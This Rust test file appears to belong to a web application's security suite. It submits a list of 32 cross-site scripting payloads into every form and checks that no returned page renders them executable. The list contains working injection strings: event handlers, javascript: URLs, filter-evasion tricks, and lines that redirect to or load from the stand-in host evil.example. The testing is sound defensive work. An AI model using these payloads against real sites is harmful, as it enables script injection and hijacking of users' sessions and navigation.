//! Words that are programs: wherever they are typed, they come back as words.

use super::{forms::written, markup::acts};

/// From the usual collections: tags, attributes that end early, handlers, addresses that act, broken comments, entities.
const PAYLOADS: [&str; 32] = [
    "<script>vx7()</script>",
    "</textarea><script>vx7()</script>",
    "</title><script>vx7()</script>",
    "\"><script>vx7()</script>",
    "'><script>vx7()</script>",
    "<img src=x onerror=vx7()>",
    "<img src=\"x\" onerror=\"vx7()\">",
    "\"><img src=x onerror=vx7()>",
    "<IMG SRC=x OnErRoR=vx7()>",
    "<svg onload=vx7()>",
    "<svg/onload=vx7()>",
    "<svg><script>vx7()</script></svg>",
    "<iframe src=javascript:vx7()></iframe>",
    "<iframe srcdoc=\"<script>vx7()</script>\"></iframe>",
    "<a href=javascript:vx7()>x</a>",
    "<a href=\"java&#x0A;script:vx7()\">x</a>",
    "<details open ontoggle=vx7()>",
    "<input autofocus onfocus=vx7()>",
    "<body onload=vx7()>",
    "<form action=https://evil.example><input name=vx7>",
    "<button formaction=javascript:vx7()>x</button>",
    "<math><mtext><img src=x onerror=vx7()></mtext></math>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/vx7>",
    "<base href=https://evil.example/vx7/>",
    "<style>*{background:url(//evil.example/vx7)}</style>",
    "<object data=javascript:vx7()></object>",
    "<video><source onerror=vx7()></video>",
    "<!--><img src=x onerror=vx7()>-->",
    "<scr<script>ipt>vx7()</scr</script>ipt>",
    "\" onmouseover=\"vx7()\" x=\"",
    "' onmouseover='vx7()' x='",
    "<p style=\"x:expression(vx7())\">&lt;script&gt;vx7()&lt;/script&gt;",
];

/// The payloads that stand in a page as they were typed.
fn verbatim(html: &str) -> Vec<&'static str> {
    let raw = |payload: &&str| payload.contains(['<', '"']) && html.contains(*payload);
    PAYLOADS.into_iter().filter(raw).collect()
}

/// A page of ours; what is saved as a file (a codebook) is opened apart from us, with a style of its own.
fn is_page(page: &crate::world::Page) -> bool {
    let saved = page.header("content-disposition").is_some_and(|how| how.starts_with("attachment"));
    !saved && page.header("content-type").is_some_and(|kind| kind.starts_with("text/html"))
}

async fn nothing_acts(words: &str) {
    let written = written(&[words]).await;
    assert!(written.sent > 20, "forms were sent: {}", written.sent);
    let (mut shown, mut problems) = (0, Vec::new());
    for page in written.pages.iter().filter(|page| is_page(page)) {
        shown += usize::from(page.text.contains("vx7"));
        for found in acts(&page.text) {
            problems.push(format!("{} {found}", page.path));
        }
        for payload in verbatim(&page.text) {
            problems.push(format!("{} has {payload}", page.path));
        }
    }
    problems.sort();
    problems.dedup();
    assert_eq!(problems, Vec::<String>::new());
    assert!(shown > 10, "the words do show on pages: {shown}");
}

#[tokio::test]
async fn a_collection_of_programs_typed_everywhere_never_acts() {
    nothing_acts(&PAYLOADS.join("\n")).await;
}

#[tokio::test]
async fn a_short_program_typed_everywhere_never_acts() {
    // Short enough for names, on one line, and with what ends an attribute of either kind.
    nothing_acts("Vx \"'><img src=x onerror=vx7()>").await;
}

#[test]
fn every_payload_is_seen_where_a_page_would_let_it_through() {
    for payload in PAYLOADS {
        let text = format!("<p>{payload}</p>");
        let value = format!("<p class=\"{payload}\">x</p>");
        let single = format!("<p class='{payload}'>x</p>");
        let seen = [text, value, single].iter().any(|html| !acts(html).is_empty());
        assert!(seen, "{payload}");
        assert!(
            acts(&format!("<p title=\"{}\">x</p>", maud::html! { (payload) }.into_string())).is_empty(),
            "{payload}"
        );
    }
}
